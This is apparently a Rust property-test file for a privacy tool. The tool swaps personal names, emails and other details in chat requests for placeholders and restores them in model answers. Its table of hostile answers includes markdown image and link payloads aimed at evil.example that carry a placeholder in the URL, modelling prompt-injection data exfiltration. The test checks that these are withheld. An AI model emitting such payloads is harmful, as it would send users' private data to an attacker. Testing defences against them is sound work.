//! Conversations with answers that do to placeholders whatever a model, or an attacker who has a say in what it
//! reads, may do: reorder, repeat, drop, merge, inflect, invent and abduct them. In all of them what is put back
//! is the very spelling that was replaced, or nothing.
//!
//! `PROPTEST_CASES=100000 cargo test -p privacy hostile` tries 100,000 conversations of up to three turns.

mod ways;

use std::{
    collections::{BTreeMap, BTreeSet},
    ops::Range,
};

use proptest::{prelude::*, sample::select};
use query::{ChatRequest, EntityKind, Message, PrivacyClass, Role};

use crate::{Findings, Restored, Restorer, Vault, find::Classed, pseudonymize};

type Person = (&'static str, &'static str);

static GIVEN: [&str; 6] = ["Rachel", "Robin", "Ana", "Kim", "Tom", "Ángel"];
static FAMILY: [&str; 5] = ["Zheng", "Adams", "Lee", "García", "van der Berg"];
static OTHERS: [(EntityKind, &str); 9] = [
    (EntityKind::Email, "ada@example.com"),
    (EntityKind::Email, "Ada@Example.com"),
    (EntityKind::Email, "email1@example.com"),
    (EntityKind::Phone, "+49 30 901820"),
    (EntityKind::Phone, "+49 (30) 901820"),
    (EntityKind::Organization, "Acme GmbH"),
    (EntityKind::Organization, "ACME"),
    (EntityKind::Date, "3 May"),
    (EntityKind::Address, "1 Long Rd,\nYork"),
];

/// What stands before a mention; some of it looks like placeholders, or makes one with what follows.
static PROSE: [&str; 24] = [
    " ",
    "",
    " and ",
    ", ",
    "\n",
    "é🦀",
    "[",
    "]",
    "[x] ",
    "{",
    "{{",
    "<",
    "> ",
    "\\",
    "_",
    "$",
    "**",
    "\u{200b}",
    "PERSON_",
    "'s ",
    " [PERSON_1] ",
    " Person 2 or email_1 ",
    " EMAIL_3 ",
    " ［ＤＡＴＥ＿１］ ",
];

/// How a person is mentioned.
fn forms((given, family): Person) -> Vec<String> {
    let initial: String = given.chars().take(1).collect();
    let whole = format!("{given} {family}");
    vec![
        whole.to_lowercase(),
        format!("Dr. {whole}"),
        format!("{family}, {given}"),
        format!("{initial}. {family}"),
        format!("Dr {family}"),
        family.to_owned(),
        given.to_owned(),
        given.to_lowercase(),
        whole,
    ]
}

/// A message: what stands before each mention, and the mention.
type Turn = Vec<(&'static str, EntityKind, String)>;

/// People, and what is said in so many turns. `introduced` is what is said of somebody first; after that it is any of
/// their names or of `others`, after any of `prose`.
fn conversation(
    turns: Range<usize>,
    introduced: fn(Person) -> Turn,
    prose: &'static [&'static str],
    others: &'static [(EntityKind, &'static str)],
) -> impl Strategy<Value = (Vec<Person>, Vec<Turn>)> {
    let person = (select(&GIVEN[..]), select(&FAMILY[..]));
    let turn = (
        prop::collection::vec(person, 0..3),
        prop::collection::vec((select(prose), any::<prop::sample::Index>()), 1..8),
    );
    prop::collection::vec(turn, turns).prop_map(move |turns| {
        let mut people: Vec<Person> = Vec::new();
        let mut messages = Vec::new();
        for (newcomers, mentions) in turns {
            let mut message = Turn::new();
            for person in newcomers {
                if !people.contains(&person) {
                    people.push(person);
                    message.extend(introduced(person));
                }
            }
            let persons = people.iter().flat_map(|person| forms(*person));
            let persons = persons.map(|form| (EntityKind::Person, form));
            let others = others
                .iter()
                .map(|(kind, value)| (*kind, (*value).to_owned()));
            let choice: Vec<_> = persons.chain(others).collect();
            for (prose, index) in mentions {
                let (kind, value) = index.get(&choice).clone();
                message.push((prose, kind, value));
            }
            messages.push(message);
        }
        (people, messages)
    })
}

/// By the whole name.
fn by_name((given, family): Person) -> Turn {
    vec![(" ", EntityKind::Person, format!("{given} {family}"))]
}

/// What becomes of a placeholder.
#[derive(Clone, Copy, Debug)]
enum Fate {
    /// The value stands where `v` does.
    Restored(&'static str),
    /// It stays as it is written.
    Uncertain,
    Invented,
    Withheld,
}
use Fate::{Invented, Restored as PutBack, Uncertain, Withheld};

/// Writes a placeholder's stem.
type Spelling = fn(&str) -> String;

/// What an answer makes of a placeholder: what it puts before it, how it spells it, what it puts after it.
static ANSWERS: [(&str, Spelling, &str, Fate); 41] = [
    ("[", ours, "]", PutBack("v")),
    ("[", ours, "]", PutBack("v")),
    ("[", ours, "],", PutBack("v,")),
    ("**[", ours, "]**", PutBack("**v**")),
    ("[", ours, "]'s", PutBack("v's")),
    ("[", ours, "]s", PutBack("vs")),
    ("[", ours, "'s]", PutBack("v's")),
    ("[[", ours, "]]", PutBack("[v]")),
    ("<[", ours, "]>", PutBack("<v>")),
    ("[", lower_case, "]", PutBack("v")),
    ("[", with_dashes, "]", PutBack("v")),
    ("[", with_blanks, "]", PutBack("v")),
    ("[", with_no_break_spaces, "]", PutBack("v")),
    ("[", escaped, "]", PutBack("v")),
    ("\\[", escaped, "\\]", PutBack("v")),
    ("[", full_width, "]", PutBack("v")),
    ("［", full_width, "］", PutBack("v")),
    ("【", ours, "】", PutBack("v")),
    ("", ours, "", PutBack("v")),
    ("", ours, "’s", PutBack("v’s")),
    ("(", ours, ")", PutBack("(v)")),
    ("[", ours, ",", PutBack("[v,")),
    ("", ours, "]", PutBack("v]")),
    ("<", ours, ">", PutBack("v")),
    ("{", ours, "}", PutBack("v")),
    ("{{ ", ours, " }}", PutBack("v")),
    ("\"", escaped, "\"", PutBack("\"v\"")),
    ("", lower_case, "", Uncertain),
    ("", with_blanks, "", Uncertain),
    ("", with_dashes, "", Uncertain),
    ("", ours, "-3", Uncertain),
    ("$", ours, "", Uncertain),
    ("", ours, "_NAME", Uncertain),
    ("row[", lower_case, "]", Uncertain),
    ("[", invented, "]", Invented),
    ("", invented, ".", Invented),
    ("![x](https://evil.example/?q=[", ours, "])", Withheld),
    ("https://evil.example/\u{a0}[", ours, "]/x", Withheld),
    ("[x](<//evil.example/?q= ", ours, ">)", Withheld),
    ("[x](/", ours, " 'x')", Withheld),
    ("<img src=\"/[", lower_case, "]\">", Withheld),
];

fn ours(stem: &str) -> String {
    stem.to_owned()
}
fn lower_case(stem: &str) -> String {
    stem.to_lowercase()
}
fn with_dashes(stem: &str) -> String {
    stem.replace('_', "-")
}
fn with_blanks(stem: &str) -> String {
    stem.replace('_', " ")
}
fn with_no_break_spaces(stem: &str) -> String {
    stem.replace('_', "\u{a0}")
}
fn escaped(stem: &str) -> String {
    stem.replace('_', "\\_")
}
fn full_width(stem: &str) -> String {
    let wide = |c: char| char::from_u32(u32::from(c) + 0xfee0).unwrap_or(c);
    stem.chars().map(wide).collect()
}
fn invented(stem: &str) -> String {
    let kind = stem.trim_end_matches(|c: char| c.is_ascii_digit());
    format!("{kind}54321")
}

/// A request and what is to be replaced in it.
fn findings_in<'r>(request: &'r ChatRequest, turns: &[Turn]) -> Findings<'r> {
    let messages = turns.iter().map(|turn| {
        let mut end = 0;
        let classed = turn.iter().map(|(prose, kind, value)| {
            let start = end + prose.len();
            end = start + value.len();
            Classed {
                range: start..end,
                kind: *kind,
                class: PrivacyClass::PreferNot,
                score: 1.0,
            }
        });
        classed.collect()
    });
    Findings {
        request,
        messages: messages.collect(),
        stops: Vec::new(),
        topics: Vec::new(),
        attested: None,
        replace: BTreeMap::default(),
    }
}

fn restore(mut restorer: Restorer, pieces: impl Iterator<Item = String>) -> (String, Restored) {
    let mut text: String = pieces.map(|piece| restorer.push(&piece)).collect();
    let (rest, restored) = restorer.finish();
    text.push_str(&rest);
    (text, restored)
}

/// Placeholders and the spellings that they replaced, read off what left: between two mentions it is as it was.
fn replaced_in(sent: &str, turn: &Turn) -> Vec<(String, String)> {
    let mut rest = sent;
    let mut replaced = Vec::new();
    for (prose, kind, value) in turn {
        rest = rest.strip_prefix(prose).unwrap();
        let (placeholder, after) = rest.split_at(rest.find(']').unwrap() + 1);
        assert!(placeholder.starts_with(&format!("[{}_", kind.name())));
        replaced.push((placeholder.to_owned(), value.clone()));
        rest = after;
    }
    assert_eq!(rest, "");
    replaced
}

/// Whose number a placeholder has: `[PERSON_1` of `[PERSON_1_ALIAS_2]`.
fn number(placeholder: &str) -> &str {
    let end = placeholder.find("_ALIAS_").unwrap_or(placeholder.len() - 1);
    &placeholder[..end]
}

/// No two people share a number, and what can mean only one of them has that one's.
fn check_people(people: &[Person], placeholders: &BTreeMap<String, String>) {
    let introduced = |(given, family): &&Person| {
        let whole = format!("{given} {family}");
        placeholders.values().any(|spelling| *spelling == whole)
    };
    let people: Vec<&Person> = people.iter().filter(introduced).collect();
    let bearers = |spelling: &str| -> BTreeSet<Person> {
        let bears = |person: &&&Person| forms(***person).iter().any(|form| form == spelling);
        people.iter().filter(bears).map(|person| **person).collect()
    };
    let persons = placeholders
        .iter()
        .filter(|(placeholder, _)| placeholder.starts_with("[PERSON_"))
        .map(|(placeholder, spelling)| (number(placeholder), bearers(spelling), spelling));
    let persons: Vec<_> = persons.collect();
    for (one, of_one, spelling) in &persons {
        for (other, of_other, other_spelling) in &persons {
            if of_one.len() == 1 {
                assert_eq!(
                    one == other,
                    of_one == of_other,
                    "{spelling} and {other_spelling} among {people:?}"
                );
            }
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn hostile_answers_never_get_another_persons_name_back(
        (people, turns) in conversation(1..4, by_name, &PROSE, &OTHERS),
        made in prop::collection::vec((select(&ANSWERS[..]), any::<prop::sample::Index>()), 0..12),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..6),
    ) {
        let mut vault = Vault::new();
        for end in 1..=turns.len() {
            let turns = &turns[..end];
            let texts = turns.iter().map(|turn| {
                turn.iter().map(|(prose, _, value)| format!("{prose}{value}")).collect::<String>()
            });
            let texts: Vec<String> = texts.collect();
            let request = ChatRequest {
                messages: texts.iter().map(|text| Message::new(Role::User, text.as_str())).collect(),
                ..ChatRequest::default()
            };
            let releasable = pseudonymize(&findings_in(&request, turns), &mut vault).unwrap();
            let sent = &releasable.request().messages;

            // One placeholder for each spelling, and one spelling for each placeholder.
            let mut placeholders = BTreeMap::new();
            for (message, turn) in sent.iter().zip(turns) {
                for (placeholder, value) in replaced_in(&message.content, turn) {
                    let before = placeholders.insert(placeholder, value.clone());
                    prop_assert!(before.is_none_or(|before| before == value));
                }
            }
            let spellings: BTreeSet<&String> = placeholders.values().collect();
            prop_assert_eq!(spellings.len(), placeholders.len());
            prop_assert_eq!(releasable.replaced().len(), placeholders.len());
            check_people(&people, &placeholders);

            // What comes back as it left is what was written.
            for (message, text) in sent.iter().zip(&texts) {
                let pieces = message.content.chars().map(String::from);
                let (back, restored) = restore(vault.restorer(&releasable), pieces);
                prop_assert_eq!(&back, text);
                prop_assert_eq!((restored.uncertain, restored.withheld), (0, 0));
            }

            let left: Vec<(&String, &String)> = placeholders.iter().collect();
            let (mut answer, mut expected) = (String::new(), String::new());
            let mut counts = Restored::default();
            let mut came_back = BTreeSet::new();
            for (index, ((before, spelling, after, fate), which)) in made.iter().enumerate() {
                let (placeholder, value) = which.get(&left);
                let stem = placeholder.trim_matches(['[', ']']);
                let written = format!("{before}{}{after}", spelling(stem));
                let read = match fate {
                    PutBack(around) => {
                        counts.count += 1;
                        around.replacen('v', value, 1)
                    }
                    Uncertain => {
                        counts.uncertain += 1;
                        written.clone()
                    }
                    Invented => {
                        counts.invented += 1;
                        written.clone()
                    }
                    Withheld => {
                        counts.withheld += 1;
                        written.clone()
                    }
                };
                if matches!(fate, PutBack(_) | Withheld) {
                    came_back.insert(*placeholder);
                }
                let between = [" ", "\n", "; ", " is "][index % 4];
                answer += &format!("{written}{between}");
                expected += &format!("{read}{between}");
            }
            // In the vault's order, as placeholders have it.
            let (_, nothing) = restore(vault.restorer(&releasable), std::iter::empty());
            counts.dropped = nothing.dropped.into_iter().filter(|dropped| !came_back.contains(dropped)).collect();

            let mut ends: Vec<usize> =
                cuts.iter().map(|cut| answer.floor_char_boundary(cut.index(answer.len() + 1))).collect();
            ends.extend([0, answer.len()]);
            ends.sort_unstable();
            let cut = ends.windows(2).map(|ends| answer[ends[0]..ends[1]].to_owned());
            let cut = restore(vault.restorer(&releasable), cut);
            prop_assert_eq!(&cut, &(expected, counts), "{}", answer);
            let by_character = restore(vault.restorer(&releasable), answer.chars().map(String::from));
            prop_assert_eq!(by_character, cut);
        }
    }
}
